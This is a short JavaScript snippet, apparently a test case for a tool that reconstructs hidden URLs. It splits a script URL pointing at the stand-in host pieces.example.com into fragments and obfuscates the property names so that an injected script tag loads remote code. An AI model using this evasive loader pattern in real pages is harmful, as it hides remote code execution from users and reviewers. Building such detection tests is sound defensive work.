// An address in pieces, some of them properties of an object.
// expects: pieces.example.com
var parts = { scheme: "ht" + "tps:", host: ["pieces", "example", "com"] };
var node = document.createElement("scr" + "ipt");
node["s" + "rc"] = parts.scheme + "//" + parts.host.join(".") + "/x.js";
document.documentElement["append" + "Child"](node);
